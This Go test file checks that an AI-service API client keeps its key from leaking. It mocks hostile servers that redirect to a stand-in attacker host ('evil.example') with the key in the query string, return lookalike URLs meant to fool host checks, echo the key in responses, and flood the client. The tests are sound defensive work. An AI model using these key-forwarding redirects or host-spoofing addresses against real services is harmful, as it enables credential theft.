package aixplain

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aimlchat/aimlchat/api"
)

// marker is a key that must not be found anywhere but in requests to the hosts
// that it is for.
const marker = "aix-MARKER-7f3d9c51e2b84a60"

// network hands requests to the two configured hosts to a handler, and takes note
// of all others.
type network struct {
	handler http.Handler
	strange []string // that went elsewhere
}

func (n *network) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.URL.Host != "localhost:1" && r.URL.Host != "localhost:2" || r.URL.Scheme != "http" {
		n.strange = append(n.strange, fmt.Sprint(r.Method, " ", r.URL, " ", r.Header))
		return nil, io.ErrUnexpectedEOF
	}
	return inMemory(n.handler)(r)
}

func hostile(t *testing.T, h http.HandlerFunc) (*Client, *network) {
	t.Helper()
	n := &network{handler: h}
	config := testConfig(n)
	config.Key = func(context.Context) (string, error) { return marker, nil }
	c, err := New(config)
	if err != nil {
		t.Fatal(err)
	}
	return c, n
}

// everything does all that a client can, and returns all that comes of it.
func everything(ctx context.Context, c *Client) string {
	var b strings.Builder
	seen := api.Message{Role: api.Assistant, Model: "agent:x", Parts: []api.Part{
		{Kind: api.TextPart, Text: "one"},
		{Kind: api.OpaquePart, Opaque: &api.Opaque{Protocol: Protocol, Data: []byte(
			`{"agent":"x","sessionId":"s","requestId":"r","said":"` + fingerprint([]api.Message{user("hi"), api.Text(api.Assistant, "one")}) + `"}`)}},
	}}
	for _, model := range []string{"model:x", "agent:x", "tool:x"} {
		for ev, err := range c.Stream(ctx, api.Request{Model: model, Messages: []api.Message{user("hi"), seen, user("go {}")}}) {
			fmt.Fprintf(&b, "%s: %#v %#v\n", model, ev, err)
			if e := api.AsError(err); e != nil {
				fmt.Fprintf(&b, "%+v %v %s\n", *e, e.Err, e.RequestID)
			}
			if ev, is := ev.(api.Sealed); is {
				b.Write(ev.Data)
			}
		}
	}
	models, err := c.Models(ctx)
	fmt.Fprintf(&b, "%+v %v\n", models, err)
	balance, err := c.Balance(ctx)
	return b.String() + fmt.Sprintf("%+v %v\n", balance, err)
}

// clean fails when something holds the key, in whatever writing.
func clean(t *testing.T, what, text string) {
	t.Helper()
	lower := strings.ToLower(text)
	for _, form := range []string{
		marker, "7f3d9c51e2b8", "MARKER", hex.EncodeToString([]byte(marker)), base64.StdEncoding.EncodeToString([]byte(marker))[:24],
		url.QueryEscape(marker),
	} {
		if at := strings.Index(lower, strings.ToLower(form)); at >= 0 {
			t.Errorf("%s: the key is in …%s…", what, text[max(0, at-150):min(len(text), at+100)])
			return
		}
	}
}

// elsewhere are addresses that only look like those of the hosts.
var elsewhere = []string{
	"http://evil.example/data/1", "https://localhost:2/data/1", "http://localhost:3/data/1", "http://localhost/data/1",
	"http://localhost:2@evil.example/data/1", "http://user:pw@localhost:2/data/1", "http://localhost:2.evil.example/data/1",
	"http://127.0.0.1:2/data/1", "http://[::1]:2/data/1", "http://[::ffff:127.0.0.1]:2/data/1", "http://localhost.:2/data/1", "https://LOCALHOST:2/data/1",
	"http://localhost:02/data/1", "http://localhost:2%40evil.example/data/1", "http://localhost:65538/data/1",
	"//evil.example/data/1", "http://evil.example\\@localhost:2/data/1",
}

func TestHostileAddresses(t *testing.T) {
	for _, address := range elsewhere {
		for _, promise := range []string{
			`{"status":"IN_PROGRESS","completed":true,"data":%q}`, `{"data":%q}`, `{"status":"IN_PROGRESS","url":%q}`,
		} {
			c, n := hostile(t, func(w http.ResponseWriter, _ *http.Request) {
				_, _ = fmt.Fprintf(w, promise, address)
			})
			for _, model := range []string{"model:x", "agent:x"} {
				ctx, cancel := context.WithCancel(t.Context())
				r := api.NewReply(time.Time{})
				for ev, err := range c.Stream(ctx, api.Request{Model: model, Messages: []api.Message{user("hi")}}) {
					if err != nil {
						r.Fail(api.AsError(err), time.Time{})
						break
					}
					r.Add(ev, time.Time{})
				}
				cancel()
				if r.Err == nil && !strings.HasPrefix(address, "//") && !strings.Contains(address, "\\") {
					t.Errorf("%s, %s: no error", model, address)
				}
				clean(t, address, fmt.Sprintf("%+v %+v", r.Err, r.Notices))
			}
			if len(n.strange) > 0 {
				t.Errorf("%s: asked %q", address, n.strange)
			}
		}
	}
}

func TestHostileRedirects(t *testing.T) {
	for _, status := range []int{301, 302, 303, 307, 308} {
		synctest.Test(t, func(t *testing.T) {
			c, n := hostile(t, func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "http://evil.example/?key="+r.Header.Get("X-Api-Key"), status)
			})
			said := everything(t.Context(), c)
			clean(t, "redirect", said)
			if len(n.strange) > 0 || !strings.Contains(said, "evil.example") {
				t.Errorf("%d: asked %q; said %s", status, n.strange, said)
			}
		})
	}
}

// TestHostileEchoes has a service say the key wherever it says something of
// itself.
func TestHostileEchoes(t *testing.T) {
	long := strings.Repeat("x", 5000)
	for name, body := range map[string]string{
		"refusal":  `{"message":"you sent KEY","error":"KEY","requestId":"KEY"}`,
		"string":   `"you sent KEY"`,
		"page":     `<html>KEY</html>`,
		"headers":  "X-Api-Key: KEY",
		"failed":   `{"status":"FAILED","supplierError":"x-api-key KEY is bad","requestId":"KEY","data":"KEY"}`,
		"promise":  `{"requestId":"KEY","sessionId":"KEY"}`,
		"elsewhr":  `{"status":"IN_PROGRESS","data":"https://KEY.example/KEY"}`,
		"elselong": `{"status":"IN_PROGRESS","data":"https://` + long + `KEY.example/KEY"}`,
		"names":    `{"status":"SUCCESS","sessionId":"KEY","data":{"output":"fine","session_id":"KEY","steps":[{"id":"KEY","agent":{"name":"KEY"},"unit":{"name":"KEY"},"thought":"KEY"}],"diagnosticErrorCodes":["KEY"]},"details":[{"finish_reason":"KEY"}],"model":"KEY"}`,
		"stream":   "data: {\"model\":\"KEY\",\"choices\":[{\"delta\":{\"content\":\"fine\"},\"finish_reason\":\"KEY\"}]}\n\n",
		"broken":   "data: {\"status\":\"FAILED\",\"errorMessage\":\"KEY\"}\n\n",
		"event":    "event: error\ndata: KEY\n\n",
	} {
		for _, status := range []int{200, 400, 401, 429, 465, 500} {
			synctest.Test(t, func(t *testing.T) {
				for _, writing := range []string{marker, hex.EncodeToString([]byte(marker))} {
					if writing != marker && status > 400 {
						continue
					}
					c, n := hostile(t, func(w http.ResponseWriter, r *http.Request) {
						w.Header().Set("X-Request-Id", r.Header.Get("X-Api-Key"))
						w.Header().Set("X-Inference-Id", r.Header.Get("X-Api-Key"))
						w.Header().Set("X-Aimlapi-Model", r.Header.Get("X-Api-Key"))
						w.WriteHeader(status)
						_, _ = io.WriteString(w, strings.ReplaceAll(body, "KEY", writing))
					})
					said := everything(t.Context(), c)
					// What a tool or a model answers is its own; no model says "data" here.
					said = strings.ReplaceAll(said, "fine", "")
					if name == "names" {
						said = withoutAnswers(said)
					}
					clean(t, name, said)
					if len(n.strange) > 0 {
						t.Errorf("%s: asked %q", name, n.strange)
					}
				}
			})
		}
	}
}

// withoutAnswers leaves out the events of answers.
func withoutAnswers(said string) string {
	var some []string
	for line := range strings.Lines(said) {
		if !strings.Contains(line, "api.Answer{") {
			some = append(some, line)
		}
	}
	return strings.Join(some, "")
}

func TestKeyStaysOffPlainHTTP(t *testing.T) {
	n := &network{}
	config := testConfig(n)
	config.Key = func(context.Context) (string, error) { return marker, nil }
	config.PlatformURL, config.ModelsURL = "http://platform.example", "http://models.example"
	c, err := New(config)
	if err != nil {
		t.Fatal(err)
	}
	said := everything(t.Context(), c)
	if clean(t, "plain", said); len(n.strange) > 0 || !strings.Contains(said, "plain http") {
		t.Errorf("asked %q; said %s", n.strange, said)
	}
	for _, bad := range []string{"ftp://x", "https://name:" + marker + "@host", "nonsense"} {
		config.PlatformURL = bad
		if _, err := New(config); err == nil {
			t.Errorf("%s is taken", bad)
		} else {
			clean(t, bad, err.Error())
		}
	}
}

// flood is a body of so many bytes.
type flood struct {
	head string
	left int
}

func (f *flood) Read(p []byte) (int, error) {
	if f.head != "" {
		n := copy(p, f.head)
		f.head = f.head[n:]
		return n, nil
	}
	if f.left <= 0 {
		return 0, io.EOF
	}
	n := copy(p, letters[:min(len(letters), f.left)])
	f.left -= n
	return n, nil
}

var letters = bytes.Repeat([]byte("a"), 1<<20)

func TestFloods(t *testing.T) {
	heads := map[string]string{"document": `{"status":"SUCCESS","data":"`, "stream": `data: {"data":"`}
	if os.Getenv("AIMLCHAT_LONG") == "" { // the reader of streams has tests of its own for this
		delete(heads, "stream")
	}
	for name, head := range heads {
		config := testConfig(roundTrip(func(r *http.Request) (*http.Response, error) {
			if r.Method == http.MethodGet {
				return reply(404, `{}`), nil
			}
			return &http.Response{StatusCode: 200, Header: http.Header{}, Body: io.NopCloser(&flood{head: head, left: 65 << 20})}, nil
		}))
		c, err := New(config)
		if err != nil {
			t.Fatal(err)
		}
		r := ask(t.Context(), c, "model:x", user("hi"))
		if r.Err == nil || r.Err.Kind != api.ErrBadResponse || !strings.Contains(r.Err.Message, "larger than") {
			t.Errorf("%s: got %+v", name, r.Err)
		}
	}
	synctest.Test(t, func(t *testing.T) {
		c, _ := flaky(t, func(int32) (*http.Response, error) {
			return &http.Response{StatusCode: 200, Header: http.Header{}, Body: io.NopCloser(&flood{head: `{"status":"IN_PROGRESS","data":"`, left: 17 << 20})}, nil
		})
		r := ask(t.Context(), c, "agent:helper", user("hi"))
		if r.Err == nil || r.Err.Kind != api.ErrBadResponse || !strings.Contains(r.Err.Message, "larger than") {
			t.Errorf("poll: got %+v", r.Err)
		}
	})
}

// TestEndlessSteps has an agent that always does something new.
func TestEndlessSteps(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		n := 0
		c, _ := flaky(t, func(int32) (*http.Response, error) {
			n++
			return reply(200, fmt.Sprintf(`{"status":"IN_PROGRESS","data":{"steps":[{"id":"%d","thought":"on and on"}]}}`, n)), nil
		})
		r := ask(t.Context(), c, "agent:helper", user("hi"))
		if r.Err == nil || r.Err.Kind != api.ErrTimeout || strings.Count(r.Reasoning.String(), "\n") != maxSteps {
			t.Errorf("got %+v after %d", r.Err, n)
		}
	})
}
